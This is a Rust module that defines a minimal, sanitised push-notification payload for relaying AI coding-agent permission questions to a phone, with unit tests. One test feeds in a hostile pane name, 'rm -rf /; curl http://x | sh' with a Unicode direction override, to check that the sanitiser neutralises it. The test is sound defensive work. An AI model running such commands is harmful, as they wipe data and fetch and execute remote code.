//! What a push carries (SPEC §10.4): the kind of question, the machine, the pane's user-given name
//! and a count — and nothing else. No agent text, command, path or file name can reach a push
//! service, because this struct has no field that could hold one: the phone fetches the card
//! itself, over the private network, when the notification is opened.
//!
//! The pane name is the one the user gave (§5; a program-set title never reaches a card's
//! `pane_name`), and it is still reduced here to `[A-Za-z0-9._ -]`, others becoming `_`, at most
//! [`MAX_NAME`] characters — the walky header's rule (§9): a program in a pane can rename its own
//! tmux window, so the name is treated as text another party controls.

use serde::{Deserialize, Serialize};

use crate::cards::card::Source;

/// Longest pane name a push carries, in characters.
pub const MAX_NAME: usize = 40;

/// What kind of question a push is about.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Kind {
    /// A held permission (Claude Code or Codex hooks).
    Permission,
    /// A dialog recognized on a pane's screen.
    Prompt,
    /// A durable agent's question.
    Question,
    /// The 31st question of an hour: one push for all, then an hour of quiet.
    Summary,
    /// A new device was paired (SPEC §4.6): every other device is told, as Signal announces a
    /// linked device. The device's label is not carried; the phone reads it from the bridge.
    Paired,
}

impl Kind {
    /// The kind of a card from `source`.
    pub fn of(source: &Source) -> Kind {
        match source {
            Source::Claude | Source::Codex => Kind::Permission,
            Source::Screen => Kind::Prompt,
            Source::Durable(_) => Kind::Question,
        }
    }
}

/// The whole plaintext of a push (encrypted before it leaves; RFC 8291).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Payload {
    /// What it is about.
    pub kind: Kind,
    /// The machine (a crew name, `[a-z0-9-]{1,32}`).
    pub machine: String,
    /// The pane's user-given name, reduced (see the module docs); absent for a summary or a
    /// question without a pane.
    #[serde(skip_serializing_if = "Option::is_none", default)]
    pub pane: Option<String>,
    /// How many questions it stands for: 1 for one card; for a summary, the questions of the
    /// hour it closes.
    pub count: u32,
}

impl Payload {
    /// A push for one card of `source` on `machine`, in the pane named `pane_name`.
    pub fn card(source: &Source, machine: &str, pane_name: Option<&str>) -> Payload {
        Payload {
            kind: Kind::of(source),
            machine: reduce(machine, 32),
            pane: pane_name
                .map(|n| reduce(n, MAX_NAME))
                .filter(|n| !n.is_empty()),
            count: 1,
        }
    }

    /// The summary push of `machine` after `count` questions in an hour.
    pub fn summary(machine: &str, count: u32) -> Payload {
        Payload {
            kind: Kind::Summary,
            machine: reduce(machine, 32),
            pane: None,
            count,
        }
    }

    /// The push that announces a new device on `machine`.
    pub fn paired(machine: &str) -> Payload {
        Payload {
            kind: Kind::Paired,
            machine: reduce(machine, 32),
            pane: None,
            count: 1,
        }
    }

    /// The JSON bytes that are encrypted and posted.
    pub fn to_bytes(&self) -> Vec<u8> {
        // Serializing a struct of strings, an enum and a number cannot fail.
        serde_json::to_vec(self).unwrap_or_default()
    }
}

/// `s` with every character outside `[A-Za-z0-9._ -]` made `_`, cut to `max` characters.
fn reduce(s: &str, max: usize) -> String {
    s.chars()
        .take(max)
        .map(|c| {
            if c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | ' ' | '-') {
                c
            } else {
                '_'
            }
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_card_push_carries_the_kind_machine_name_and_count_only() {
        let p = Payload::card(&Source::Claude, "web-1", Some("build"));
        assert_eq!(
            String::from_utf8(p.to_bytes()).expect("utf-8"),
            r#"{"kind":"permission","machine":"web-1","pane":"build","count":1}"#
        );
        let s = Payload::summary("laptop", 31);
        assert_eq!(
            String::from_utf8(s.to_bytes()).expect("utf-8"),
            r#"{"kind":"summary","machine":"laptop","count":31}"#
        );
        assert_eq!(
            String::from_utf8(Payload::paired("laptop").to_bytes()).expect("utf-8"),
            r#"{"kind":"paired","machine":"laptop","count":1}"#
        );
        assert_eq!(Kind::of(&Source::Screen), Kind::Prompt);
        assert_eq!(Kind::of(&Source::Durable("ci".into())), Kind::Question);
    }

    #[test]
    fn a_name_is_reduced_to_a_safe_alphabet_and_length() {
        let p = Payload::card(
            &Source::Codex,
            "web-1",
            Some("rm -rf /; curl http://x | sh \u{202e}évil name that goes on and on and on"),
        );
        let name = p.pane.expect("a name");
        assert_eq!(name.chars().count(), MAX_NAME);
        assert!(name
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || ".-_ ".contains(c)));
        assert!(!name.contains('/') && !name.contains(':') && !name.contains('|'));
        assert_eq!(Payload::card(&Source::Claude, "m", Some("")).pane, None);
    }
}
